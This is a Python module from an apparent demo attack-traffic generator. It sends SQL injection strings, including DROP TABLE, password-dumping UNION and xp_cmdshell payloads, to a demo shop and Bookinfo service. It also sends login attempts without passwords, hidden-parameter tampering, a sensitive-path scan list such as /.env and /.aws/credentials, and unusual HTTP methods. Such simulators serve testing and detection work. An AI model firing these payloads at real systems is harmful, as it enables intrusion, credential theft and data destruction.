"""Attacks that one request gives away: what is in it was never there before."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote, quote_plus

from demo.catalogue import some_item
from demo.people import person
from demo.plans import BOOKINFO, Request, get, post

if TYPE_CHECKING:
    from demo.attack import Attack


async def negative_count(attack: Attack) -> None:
    """Lower the bill with counts below zero."""
    async with attack.visit() as visitor:
        await visitor.log_in()
        for count in (-1, -1, -2, -3, -5, *range(-50, -8, 2)):
            fields: dict[str, object] = {"item": some_item(attack.rng), "count": count}
            await visitor.strike(post("/cart", fields, visitor.who))


async def login_without_password(attack: Attack) -> None:
    """Log in as other people by leaving the password out."""
    for number in range(24):
        async with attack.visit() as visitor:
            await visitor.prepare(get("/items"))
            victim: dict[str, object] = {"username": person(attack.seed, number).username}
            await visitor.strike(post("/login", victim, visitor.who))


async def sql_injection(attack: Attack) -> None:
    """Try the usual SQL in searches, item numbers and JSON fields."""
    async with attack.visit() as visitor:
        await visitor.prepare(get("/items"))
        for text in _SQL:
            await visitor.strike(get(f"/search?q={quote_plus(text)}"))
        for text in _SQL[:8]:
            await visitor.strike(get(f"/items/{some_item(attack.rng)}{quote(text, safe='')}"))
    async with attack.visit() as visitor:
        await visitor.log_in()
        for text in _SQL[:6]:
            await visitor.strike(post("/cart", {"item": f"1{text}", "count": 1}, visitor.who))
        for text in _SQL[:6]:
            fields: dict[str, object] = {"username": f"admin{text}", "password": text}
            await visitor.strike(post("/login", fields, visitor.who))


async def unknown_parameter(attack: Attack) -> None:
    """Guess parameters that developers leave behind."""
    async with attack.visit() as visitor:
        await visitor.log_in()
        for target in ("/items", "/items/7", "/search?q=lamp", "/cart"):
            for extra in ("debug=true", "admin=1", "test=1", "internal=yes"):
                await visitor.strike(get(f"{target}{'&' if '?' in target else '?'}{extra}"))
        for name, value in (("isAdmin", True), ("price", 0.01), ("discount", 100), ("userId", 1), ("role", "admin")):
            line: dict[str, object] = {"item": some_item(attack.rng), "count": 1, name: value}
            await visitor.strike(post("/cart", line, visitor.who))
        for extra in ("debug=true", "admin=1", "preview=1"):
            await visitor.strike(Request("GET", f"/productpage?{extra}", BOOKINFO))


async def unknown_endpoint_scan(attack: Attack) -> None:
    """Look for doors with a scanner's word list, at both hosts."""
    async with attack.visit() as visitor:
        await visitor.prepare(get("/items"))
        for target in _DOORS:
            await visitor.strike(get(target))
        for target in _DOORS[:8]:
            await visitor.strike(Request("GET", target, BOOKINFO))


async def unusual_method(attack: Attack) -> None:
    """Use methods that nobody uses here, WebDAV's and others that Envoy lets pass."""
    async with attack.visit() as visitor:
        await visitor.log_in()
        for method in _METHODS:
            await visitor.strike(Request(method, "/items"))
            await visitor.strike(Request(method, "/productpage", BOOKINFO))


_SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "1; DROP TABLE items; --",
    "' UNION SELECT username, password FROM users --",
    "') AND SLEEP(5) AND ('a'='a",
    '" OR ""="',
    "' AND 1=CONVERT(int, (SELECT @@version)) --",
    "'; EXEC xp_cmdshell('dir'); --",
    "lamp' AND (SELECT COUNT(*) FROM sysobjects) > 0 --",
    "x'||(SELECT password FROM users WHERE username='admin')||'",
)
_DOORS = (
    "/admin", "/.git/config", "/wp-login.php", "/.env", "/phpmyadmin/index.php", "/server-status", "/actuator/env",
    "/console/", "/backup.zip", "/api/v2/users", "/cgi-bin/test.cgi", "/.aws/credentials", "/config.json", "/graphql",
    "/metrics", "/debug/pprof/", "/xmlrpc.php", "/old/", "/owa/auth/logon.aspx", "/robots.txt", "/items/../admin",
    "/users/1", "/.svn/entries", "/solr/admin/info/system",
)  # fmt: skip
_METHODS = ("PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH", "REPORT", "PURGE", "TRACE",
            "PATCH", "PUT", "OPTIONS")  # fmt: skip
